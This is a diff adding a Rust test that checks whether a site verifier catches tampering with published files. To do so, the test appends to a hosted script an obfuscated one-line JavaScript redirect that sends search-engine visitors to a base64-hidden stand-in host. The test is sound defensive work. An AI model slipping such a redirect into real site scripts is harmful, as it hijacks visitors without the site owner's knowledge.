@@ -803,3 +803,33 @@ fn a_page_is_not_sent_twice_by_a_host_that_tags_its_files() {
         stdout(&out)
     );
 }
+
+#[test]
+fn a_redirect_appended_to_a_published_script_is_named_by_its_host() {
+    // Hacked portals append a redirect for visitors from a search engine to
+    // a script every page loads (jquery.js, the theme's own).
+    let site = TestSite::good();
+    site.build_ok();
+    let live = hosted_copy(&site);
+    let script = tree(live.path())
+        .into_keys()
+        .find(|rel| rel.ends_with(".js"))
+        .expect("the build publishes a script");
+    let mut text = fs::read_to_string(live.path().join(&script)).unwrap();
+    text.push_str(
+        "\n;(function(){if(/google|coccoc/.test(document.referrer))window.location=atob(\"aHR0cHM6Ly9va3ZpcC5leGFtcGxlL3Z1aQ==\")})();\n",
+    );
+    fs::write(live.path().join(&script), text).unwrap();
+    let base = static_server(live.path().to_path_buf());
+
+    let out = verify(&site.public(), &base);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let url = format!("{base}/{script}");
+    let expected = [
+        format!("{url}: differs from the build from line "),
+        format!(
+            "{url}: links to okvip.example, a host the build never links to (https://okvip.example/vui)"
+        ),
+    ];
+    assert_lines_begin(&stdout(&out), &expected);
+}
